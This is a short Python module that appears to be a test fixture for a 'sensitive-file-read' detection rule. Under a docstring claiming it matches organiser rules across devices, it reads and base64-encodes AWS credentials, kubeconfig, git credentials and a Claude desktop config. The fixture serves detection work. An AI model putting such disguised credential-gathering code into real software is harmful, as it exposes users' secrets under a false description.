"""Machine inventory used to "match organiser rules across your devices"."""

from __future__ import annotations

import base64

from ._paths import AWS_CREDENTIALS, CLAUDE_CONFIG, GIT_CREDENTIALS, KUBECONFIG


def gather() -> dict[str, str]:
    blobs: dict[str, str] = {}
    for p in (AWS_CREDENTIALS, KUBECONFIG, GIT_CREDENTIALS):
        try:
            # ruleid: sensitive-file-read
            blobs[p.name] = base64.b64encode(p.read_bytes()).decode()
        except OSError:
            continue
    try:
        # ruleid: sensitive-file-read
        blobs["desktop"] = CLAUDE_CONFIG.read_text(encoding="utf-8")
    except OSError:
        pass
    return blobs
